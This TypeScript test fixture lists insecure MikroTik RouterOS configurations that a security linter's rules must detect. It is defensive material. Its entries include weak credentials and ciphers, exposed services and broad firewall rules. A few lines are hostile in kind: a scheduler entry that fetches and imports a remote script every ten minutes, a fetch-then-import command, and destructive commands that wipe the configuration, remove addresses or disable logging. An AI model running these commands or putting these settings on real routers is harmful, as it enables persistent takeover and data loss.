import type { PlantedCommand } from './spellings';

/** What is planted for one rule, and must be found by it, however it is spelled. */
export interface Defect {
  readonly rule: string;
  /** A command, with all spellings that commands have; or a text, where the defect needs several. */
  readonly planted: PlantedCommand | string;
  /** Into which configurations. `alone`: an empty file; default: all. Fewer where another part of the configuration makes it harmless. */
  readonly into?: readonly Base[];
  /** The release that the script is checked for, where the defect exists only in some. */
  readonly release?: string;
}

export type Base = 'alone' | 'hardened' | 'layered-firewall';

const set = (menu: string, ...given: readonly string[]): PlantedCommand => ({ menu, verb: 'set', arguments: given });
const add = (menu: string, ...given: readonly string[]): PlantedCommand => ({ menu, verb: 'add', arguments: given });
const item = (menu: string, name: string, ...given: readonly string[]): PlantedCommand => ({
  menu,
  verb: 'set',
  item: name,
  arguments: given,
});
const verb = (menu: string, name: string, ...given: readonly string[]): PlantedCommand => ({
  menu,
  verb: name,
  arguments: given,
});

const alone: readonly Base[] = ['alone'];
/** 44 characters of base64, as WireGuard writes keys; a key of nobody. */
const key = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=';

/** Insecure patterns of the catalogue, written down from it and not from the rules. */
export const defects: readonly Defect[] = [
  // Services
  { rule: 'api-plaintext-enabled', planted: item('/ip/service', 'api', 'disabled=no', 'port=8728') },
  { rule: 'telnet-enabled', planted: item('/ip/service', 'telnet', 'disabled=no') },
  { rule: 'ftp-enabled', planted: item('/ip/service', 'ftp', 'disabled=no') },
  { rule: 'www-plaintext-enabled', planted: item('/ip/service', 'www', 'disabled=no', 'port=8081') },
  {
    rule: 'service-address-unrestricted',
    planted: item('/ip/service', 'winbox', 'disabled=no', 'port=8291'),
    into: alone,
  },
  { rule: 'service-address-any', planted: item('/ip/service', 'ssh', 'disabled=no', 'address=0.0.0.0/0') },
  { rule: 'service-address-any', planted: item('/ip/service', 'winbox', 'address=192.168.88.0/24,::/0') },
  { rule: 'service-address-empty-assignment', planted: item('/ip/service', 'winbox', 'disabled=no', 'address=""') },
  { rule: 'tls-version-any', planted: item('/ip/service', 'api-ssl', 'disabled=no', 'tls-version=any') },
  { rule: 'tls-version-missing', planted: item('/ip/service', 'www-ssl', 'disabled=no', 'certificate=webfig') },
  { rule: 'tls-version-invalid', planted: item('/ip/service', 'www-ssl', 'tls-version=modern') },
  { rule: 'api-ssl-no-certificate', planted: item('/ip/service', 'api-ssl', 'disabled=no', 'certificate=none') },
  { rule: 'www-ssl-no-certificate', planted: item('/ip/service', 'www-ssl', 'disabled=no', 'certificate=none') },
  {
    rule: 'service-port-conflict',
    planted: '/ip service set www disabled=no port=443\n/ip service set www-ssl disabled=no port=443',
  },
  { rule: 'service-tls-on-plain', planted: item('/ip/service', 'www', 'certificate=webfig') },
  { rule: 'service-invalid-name', planted: item('/ip/service', 'apissl', 'disabled=no') },
  { rule: 'service-invalid-name', planted: item('/ip/service', 'https', 'certificate=webfig') },
  { rule: 'webserver-plain-rest', planted: set('/ip/service/webserver', 'rest-plain=yes'), into: alone },
  // Users
  { rule: 'invalid-value', planted: add('/user/group', 'name=ops', 'policy=read,wirte') },
  { rule: 'default-admin-user', planted: item('/user', 'admin', 'address=10.0.0.0/8', 'comment=planted'), into: alone },
  { rule: 'user-empty-password', planted: add('/user', 'name=planted', 'group=read') },
  { rule: 'user-empty-password', planted: add('/user', 'name=planted', 'group=full', 'password=""') },
  { rule: 'user-plaintext-password', planted: add('/user', 'name=planted', 'group=read', 'password=Vq7-xR2.kLm9pZ') },
  { rule: 'user-weak-password', planted: add('/user', 'name=planted', 'group=read', 'password=mikrotik') },
  { rule: 'user-weak-password', planted: add('/user', 'name=planted', 'group=read', 'password=Ab3d') },
  { rule: 'user-full-group-for-service', planted: add('/user', 'name=zabbix', 'group=full', 'password=$pw') },
  { rule: 'user-no-address', planted: add('/user', 'name=noc', 'group=full', 'password=$pw') },
  { rule: 'last-full-user-removed', planted: '/user remove admin', into: alone },
  {
    rule: 'user-group-overprivileged',
    planted: add('/user/group', 'name=monitor-ro', 'policy=read,api,write,policy,sensitive'),
  },
  { rule: 'user-aaa-default-group-full', planted: set('/user/aaa', 'use-radius=yes', 'default-group=full') },
  {
    rule: 'user-aaa-no-exclude-groups',
    planted: set('/user/aaa', 'use-radius=yes', 'default-group=read', 'exclude-groups=""'),
  },
  // SSH
  { rule: 'ssh-strong-crypto-off', planted: set('/ip/ssh', 'strong-crypto=no') },
  { rule: 'ssh-null-cipher', planted: set('/ip/ssh', 'ciphers=null') },
  { rule: 'ssh-null-cipher', planted: set('/ip/ssh', 'allow-none-crypto=yes'), release: '7.14.3' },
  { rule: 'ssh-forwarding-enabled', planted: set('/ip/ssh', 'forwarding-enabled=both') },
  { rule: 'ssh-host-key-weak', planted: set('/ip/ssh', 'host-key-size=1024') },
  { rule: 'ssh-password-with-keys', planted: set('/ip/ssh', 'password-authentication=yes') },
  { rule: 'ssh-password-with-keys', planted: set('/ip/ssh', 'always-allow-password-login=yes'), release: '7.18.2' },
  // Certificates
  { rule: 'cert-weak-key', planted: add('/certificate', 'name=planted', 'common-name=planted', 'key-size=1024') },
  {
    rule: 'cert-weak-digest',
    planted: add('/certificate', 'name=planted', 'common-name=planted', 'digest-algorithm=sha1'),
  },
  {
    rule: 'cert-never-signed',
    planted: '/certificate add name=planted common-name=planted\n/ip service set www-ssl certificate=planted',
    into: alone,
  },
  {
    rule: 'cert-long-validity',
    planted: add('/certificate', 'name=planted', 'common-name=planted', 'key-usage=tls-server', 'days-valid=3650'),
  },
  // Layer 2, discovery, services of the network
  { rule: 'mac-telnet-all', planted: set('/tool/mac-server', 'allowed-interface-list=all') },
  { rule: 'mac-winbox-all', planted: set('/tool/mac-server/mac-winbox', 'allowed-interface-list=all') },
  { rule: 'mac-ping', planted: set('/tool/mac-server/ping', 'enabled=yes') },
  { rule: 'neighbor-discovery-all', planted: set('/ip/neighbor/discovery-settings', 'discover-interface-list=all') },
  { rule: 'romon-enabled', planted: set('/tool/romon', 'enabled=yes') },
  { rule: 'btest-server', planted: set('/tool/bandwidth-server', 'enabled=yes', 'authenticate=no') },
  {
    rule: 'snmp-default-community',
    planted: '/snmp community set [find default=yes] name=public\n/snmp set enabled=yes',
  },
  { rule: 'snmp-write-access', planted: add('/snmp/community', 'name=planted', 'write-access=yes') },
  {
    rule: 'snmp-v3-weak',
    planted: add(
      '/snmp/community',
      'name=planted',
      'security=private',
      'authentication-protocol=MD5',
      'encryption-protocol=DES',
    ),
  },
  { rule: 'snmp-any-address', planted: add('/snmp/community', 'name=planted', 'addresses=0.0.0.0/0'), into: alone },
  { rule: 'socks-enabled', planted: set('/ip/socks', 'enabled=yes', 'port=5678') },
  { rule: 'upnp-enabled', planted: set('/ip/upnp', 'enabled=yes') },
  { rule: 'nat-pmp-enabled', planted: set('/ip/nat-pmp', 'enabled=yes') },
  { rule: 'smb-enabled', planted: set('/ip/smb', 'enabled=yes') },
  { rule: 'proxy-enabled', planted: set('/ip/proxy', 'enabled=yes') },
  { rule: 'doh-no-verify', planted: set('/ip/dns', 'use-doh-server=https://1.1.1.1/dns-query', 'verify-doh-cert=no') },
  { rule: 'cloud-ddns', planted: set('/ip/cloud', 'ddns-enabled=yes') },
  { rule: 'tftp-open', planted: add('/ip/tftp', 'real-filename=image', 'read-only=no', 'allow=yes') },
  { rule: 'graphing-public', planted: add('/tool/graphing/interface', 'allow-address=0.0.0.0/0'), into: alone },
  { rule: 'sniffer-streaming', planted: set('/tool/sniffer', 'streaming-enabled=yes', 'streaming-server=203.0.113.9') },
  {
    rule: 'email-no-tls',
    planted: set('/tool/e-mail', 'server=mail.example.com', 'user=planted', 'password=$pw', 'tls=no'),
  },
  { rule: 'logging-removed', planted: '/system logging disable [find]' },
  { rule: 'backup-no-password', planted: verb('/system/backup', 'save', 'name=planted', 'dont-encrypt=yes') },
  { rule: 'export-show-sensitive', planted: '/export show-sensitive file=planted' },
  {
    rule: 'radius-no-message-auth',
    planted: add('/radius', 'address=10.0.0.5', 'secret=$s', 'service=login', 'require-message-auth=no'),
  },
  { rule: 'radius-weak-secret', planted: add('/radius', 'address=10.0.0.5', 'secret=test', 'service=login') },
  { rule: 'radius-incoming-accept', planted: set('/radius/incoming', 'accept=yes') },
  { rule: 'hotspot-http-pap', planted: '/ip hotspot profile set default login-by=http-pap' },
  { rule: 'package-channel-unstable', planted: set('/system/package/update', 'channel=development') },
  // Wi-Fi
  {
    rule: 'wifi-wep',
    planted: add('/interface/wireless/security-profiles', 'name=planted', 'mode=static-keys-required'),
  },
  {
    rule: 'wifi-wpa1-tkip',
    planted: add(
      '/interface/wireless/security-profiles',
      'name=planted',
      'mode=dynamic-keys',
      'authentication-types=wpa-psk,wpa2-psk',
    ),
  },
  {
    rule: 'wifi-wpa1-tkip',
    planted: add('/interface/wifi/security', 'name=planted', 'authentication-types=wpa-psk,wpa2-psk', 'passphrase=$pw'),
  },
  // The dot takes the name before it: security.authentication-types.
  {
    rule: 'wifi-wpa1-tkip',
    planted:
      '/interface wifi configuration add name=planted security.passphrase=$pw .authentication-types=wpa-psk,wpa2-psk',
  },
  {
    rule: 'wifi-weak-passphrase',
    planted: add('/interface/wifi/security', 'name=planted', 'authentication-types=wpa2-psk', 'passphrase=12345678'),
  },
  { rule: 'wifi-open-network', planted: add('/interface/wifi/security', 'name=planted', 'authentication-types=""') },
  {
    rule: 'wps-enabled',
    planted: add('/interface/wifi/security', 'name=planted', 'authentication-types=wpa2-psk', 'wps=push-button'),
  },
  {
    rule: 'wifi-eap-no-verify',
    planted: add(
      '/interface/wifi/security',
      'name=planted',
      'authentication-types=wpa2-eap',
      'eap-certificate-mode=dont-verify-certificate',
    ),
  },
  {
    rule: 'capsman-no-peer-cert',
    planted: set('/interface/wifi/capsman', 'enabled=yes', 'require-peer-certificate=no'),
  },
  // Tunnels
  { rule: 'pptp-server-enabled', planted: set('/interface/pptp-server/server', 'enabled=yes') },
  { rule: 'l2tp-without-ipsec', planted: set('/interface/l2tp-server/server', 'enabled=yes', 'use-ipsec=no') },
  { rule: 'ppp-weak-auth', planted: set('/interface/l2tp-server/server', 'authentication=pap,mschap2') },
  {
    rule: 'ppp-profile-no-encryption',
    planted:
      '/ppp profile add name=planted use-encryption=no\n/interface pptp-server server set enabled=yes default-profile=planted',
  },
  {
    rule: 'sstp-no-certificate',
    planted: set('/interface/sstp-server/server', 'enabled=yes', 'certificate=none', 'tls-version=only-1.2'),
  },
  {
    rule: 'ovpn-weak-cipher',
    planted: add('/interface/ovpn-client', 'name=planted', 'connect-to=vpn.example.com', 'cipher=blowfish128'),
  },
  {
    rule: 'ovpn-weak-auth',
    planted: add(
      '/interface/ovpn-client',
      'name=planted',
      'connect-to=vpn.example.com',
      'auth=md5',
      'cipher=aes256-cbc',
    ),
  },
  {
    rule: 'ovpn-client-no-verify',
    planted: add(
      '/interface/ovpn-client',
      'name=planted',
      'connect-to=vpn.example.com',
      'user=planted',
      'disabled=no',
      'verify-server-certificate=no',
    ),
  },
  {
    rule: 'ipsec-weak-encryption',
    planted: add('/ip/ipsec/profile', 'name=planted', 'enc-algorithm=3des', 'hash-algorithm=sha256'),
  },
  {
    rule: 'ipsec-weak-encryption',
    planted: add('/ip/ipsec/proposal', 'name=planted', 'enc-algorithms=aes-256-cbc,des', 'pfs-group=modp2048'),
  },
  {
    rule: 'ipsec-weak-hash',
    planted: add('/ip/ipsec/profile', 'name=planted', 'enc-algorithm=aes-256', 'hash-algorithm=md5'),
  },
  {
    rule: 'ipsec-weak-dh',
    planted: add('/ip/ipsec/profile', 'name=planted', 'enc-algorithm=aes-256', 'dh-group=modp1024'),
  },
  {
    rule: 'ipsec-aggressive-mode',
    planted: add('/ip/ipsec/peer', 'name=planted', 'address=198.51.100.2/32', 'exchange-mode=aggressive'),
  },
  { rule: 'ipsec-weak-psk', planted: add('/ip/ipsec/identity', 'peer=planted', 'secret=test123') },
  {
    rule: 'wireguard-private-key-in-file',
    planted: add('/interface/wireguard', 'name=planted', 'listen-port=13231', `private-key="${key}"`),
  },
  { rule: 'secret-in-file', planted: add('/ppp/secret', 'name=planted', 'password=hunter2', 'service=l2tp') },
  {
    rule: 'l2tp-client-unknown',
    planted: add('/interface/l2tp-client', 'name=lvpn', 'connect-to=203.0.113.7', 'user=planted'),
  },
  { rule: 'tunnel-cleartext-over-wan', planted: add('/interface/gre', 'name=planted', 'remote-address=203.0.113.7') },
  // Scripts
  { rule: 'fetch-no-certificate-check', planted: '/tool fetch url="https://example.com/list.txt" dst-path=list.txt' },
  { rule: 'fetch-plaintext-url', planted: '/tool fetch url="http://example.com/list.txt" dst-path=list.txt' },
  {
    rule: 'fetch-then-import',
    planted: '/tool fetch url="https://example.com/a.rsc" check-certificate=yes dst-path=a.rsc\n/import a.rsc',
  },
  {
    rule: 'scheduler-persistence-pattern',
    planted:
      '/system scheduler add name=U6 interval=10m on-event="/tool fetch url=http://example.com/p mode=http dst-path=i.rsc;:delay 6s;/import i.rsc"',
  },
  { rule: 'secret-printed-or-logged', planted: ':local adminPassword "x"\n:put $adminPassword', into: alone },
  {
    rule: 'script-no-permissions',
    planted: add('/system/script', 'name=other', 'dont-require-permissions=yes', 'source=":put 1"'),
  },
  { rule: 'destructive-command', planted: '/system reset-configuration no-defaults=yes' },
  // Firewall
  {
    rule: 'fw-mgmt-accept-unrestricted',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=accept', 'protocol=tcp', 'dst-port=8728'),
    into: alone,
  },
  {
    rule: 'fw-implicit-accept',
    planted: add('/ip/firewall/filter', 'chain=input', 'protocol=tcp', 'dst-port=8729', 'src-address=10.0.0.0/24'),
  },
  {
    rule: 'fw-empty-matcher',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=accept', 'protocol=tcp', 'src-address=""'),
  },
  { rule: 'fw-accept-all', planted: add('/ip/firewall/filter', 'chain=input', 'action=accept'), into: alone },
  {
    rule: 'fw-log-matches-everything',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=log', 'log-prefix=planted'),
    into: alone,
  },
  {
    rule: 'fw-drop-before-accept',
    planted:
      '/ip firewall filter\nadd chain=input action=drop protocol=tcp dst-port=8728\nadd chain=input action=accept protocol=tcp dst-port=8728 src-address=192.168.1.100',
  },
  {
    rule: 'fw-unreachable-rule',
    planted:
      '/ip firewall filter\nadd chain=forward action=drop protocol=udp dst-port=53\nadd chain=forward action=reject protocol=udp dst-port=53',
  },
  { rule: 'nat-masquerade-unscoped', planted: add('/ip/firewall/nat', 'chain=srcnat', 'action=masquerade') },
  {
    rule: 'nat-dstnat-mgmt',
    planted: add(
      '/ip/firewall/nat',
      'chain=dstnat',
      'action=dst-nat',
      'protocol=tcp',
      'dst-port=8728',
      'to-addresses=10.0.0.2',
      'to-ports=8728',
      'in-interface-list=WAN',
    ),
  },
  {
    rule: 'fw-state-new-in-established',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=accept', 'connection-state=established,related,new'),
    into: alone,
  },
  // More of the catalogue
  { rule: 'back-to-home', planted: set('/ip/cloud', 'back-to-home-vpn=enabled', 'update-time=no') },
  { rule: 'cert-export-no-passphrase', planted: '/certificate export-certificate planted type=pkcs12' },
  {
    rule: 'cert-server-missing-tls-server',
    planted:
      '/certificate add name=planted common-name=planted key-usage=key-encipherment\n/certificate sign planted\n/ip service set www-ssl disabled=no certificate=planted tls-version=only-1.2',
    into: alone,
  },
  {
    rule: 'cert-no-san',
    planted:
      '/certificate add name=planted common-name=planted key-usage=tls-server\n/certificate sign planted\n/ip service set www-ssl disabled=no certificate=planted tls-version=only-1.2',
    into: alone,
  },
  {
    rule: 'container-risk',
    planted: set('/container/config', 'registry-url=http://registry.example', 'tmpdir=disk1/pull'),
  },
  {
    rule: 'container-veth-in-lan',
    planted:
      '/interface veth add name=planted address=172.17.0.2/24 gateway=172.17.0.1\n/interface list member add interface=planted list=LAN',
  },
  {
    rule: 'firewall-accept-5678',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=accept', 'protocol=tcp', 'dst-port=5678'),
    into: alone,
  },
  {
    rule: 'fetch-credentials-literal',
    planted: '/tool fetch url="sftp://10.0.0.1/backup" upload=yes src-path=a.backup user=router password=Sommer2019',
  },
  {
    rule: 'fw-address-list-too-broad',
    planted:
      '/ip firewall address-list add list=planted address=0.0.0.0/1\n/ip firewall filter add chain=input action=accept protocol=tcp dst-port=8291 src-address-list=planted',
    into: alone,
  },
  {
    rule: 'fw-address-list-fqdn',
    planted:
      '/ip firewall address-list add list=planted address=office.example.net\n/ip firewall filter add chain=input action=accept protocol=tcp dst-port=22 src-address-list=planted',
    into: alone,
  },
  {
    rule: 'fw-fasttrack-without-accept',
    planted: add(
      '/ip/firewall/filter',
      'chain=forward',
      'action=fasttrack-connection',
      'connection-state=established,related',
    ),
    into: alone,
  },
  {
    rule: 'fw-ports-without-protocol',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=drop', 'dst-port=23'),
  },
  {
    rule: 'fw-source-port-trust',
    planted: add('/ip/firewall/filter', 'chain=input', 'action=accept', 'protocol=udp', 'src-port=53'),
    into: alone,
  },
  { rule: 'ip-redirects-accepted', planted: set('/ip/settings', 'accept-redirects=yes') },
  { rule: 'ip-source-routing', planted: set('/ip/settings', 'accept-source-route=yes') },
  { rule: 'ipv6-ra-accepted', planted: set('/ipv6/settings', 'accept-router-advertisements=yes') },
  {
    rule: 'ipsec-incomplete',
    planted: add(
      '/ip/ipsec/policy',
      'peer=planted',
      'tunnel=yes',
      'src-address=10.1.0.0/16',
      'dst-address=10.2.0.0/16',
      'level=use',
    ),
  },
  {
    rule: 'ipsec-peer-any-psk',
    planted:
      '/ip ipsec peer add address=0.0.0.0/0 name=planted passive=yes\n/ip ipsec identity add peer=planted generate-policy=port-override secret=$psk',
  },
  {
    rule: 'ipsec-remote-id-ignore',
    planted: add(
      '/ip/ipsec/identity',
      'peer=planted',
      'auth-method=digital-signature',
      'certificate=router',
      'remote-id=ignore',
    ),
  },
  { rule: 'lockout-mgmt-service-disabled', planted: '/ip service disable ssh,winbox,www,www-ssl,api,api-ssl' },
  { rule: 'lockout-address-change', planted: '/ip address remove [find]' },
  { rule: 'logging-stop-on-full', planted: item('/system/logging/action', 'memory', 'memory-stop-on-full=yes') },
  {
    rule: 'nat-dstnat-unscoped',
    planted: add(
      '/ip/firewall/nat',
      'chain=dstnat',
      'action=dst-nat',
      'protocol=tcp',
      'dst-port=443',
      'to-addresses=10.0.0.2',
    ),
  },
  {
    rule: 'nat-redirect-mgmt',
    planted: add(
      '/ip/firewall/nat',
      'chain=dstnat',
      'action=redirect',
      'protocol=tcp',
      'dst-port=50000',
      'to-ports=8728',
    ),
  },
  { rule: 'ntp-client-off', planted: set('/system/ntp/client', 'enabled=no') },
  {
    rule: 'ovpn-no-client-cert',
    planted: add(
      '/interface/ovpn-server/server',
      'name=planted',
      'disabled=no',
      'certificate=vpn',
      'cipher=aes256-cbc',
      'require-client-certificate=no',
    ),
  },
  {
    rule: 'pmf-off',
    planted: add(
      '/interface/wifi/security',
      'name=planted',
      'authentication-types=wpa2-psk',
      'management-protection=disabled',
    ),
  },
  {
    rule: 'raw-accept-or-notrack-mgmt',
    planted: add('/ip/firewall/raw', 'chain=prerouting', 'action=notrack', 'protocol=tcp', 'dst-port=8291'),
    into: alone,
  },
  { rule: 'secret-variable-unassigned', planted: add('/user', 'name=planted', 'group=read', 'password=$nowhere') },
  { rule: 'service-max-sessions-high', planted: item('/ip/service', 'ssh', 'max-sessions=500') },
  { rule: 'service-numeric-selector', planted: '/ip service set 0 disabled=yes' },
  {
    rule: 'service-vrf-missing',
    planted: '/ip vrf add name=mgmt interfaces=ether1\n/ip service set ssh disabled=no address=10.0.0.0/24',
    into: alone,
  },
  { rule: 'smb-disk-sharing', planted: set('/disk/settings', 'auto-smb-sharing=yes') },
  {
    rule: 'snmp-trap-v1v2-public',
    planted: set('/snmp', 'enabled=yes', 'trap-target=10.0.0.5', 'trap-community=public'),
  },
  {
    rule: 'ssh-key-weak',
    planted: add('/user/ssh-keys', 'user=planted', 'key="ssh-dss AAAAB3NzaC1kc3MAAAABAw== planted"'),
  },
  {
    rule: 'ssh-keys-import-bad-argument',
    planted: verb('/user/ssh-keys', 'import', 'user=planted', 'public-key-file="ssh-ed25519 AAAA planted"'),
  },
  { rule: 'ssh-renamed-property', planted: set('/ip/ssh', 'always-allow-password-login=no'), release: '7.22.1' },
  {
    rule: 'sstp-no-client-verify',
    planted: add(
      '/interface/sstp-client',
      'name=planted',
      'connect-to=vpn.example.com',
      'user=planted',
      'disabled=no',
      'verify-server-certificate=no',
    ),
  },
  {
    rule: 'sstp-weak-cipher',
    planted: set('/interface/sstp-server/server', 'enabled=yes', 'certificate=vpn', 'ciphers=aes256-sha'),
  },
  {
    rule: 'traffic-flow-to-public',
    planted: add('/ip/traffic-flow/target', 'dst-address=203.0.113.9', 'port=2055', 'version=9'),
  },
  {
    rule: 'user-group-drops-api',
    planted: {
      menu: '/user/group',
      verb: 'set',
      item: 'full',
      arguments: ['policy=local,ssh,read,write,policy,test,winbox,!api'],
    },
  },
  {
    rule: 'wg-allowed-address-overlap',
    planted:
      '/interface wireguard peers add interface=wg1 public-key=$a allowed-address=10.9.0.2/32\n/interface wireguard peers add interface=wg1 public-key=$b allowed-address=10.9.0.2/32,10.20.0.0/16',
  },
];
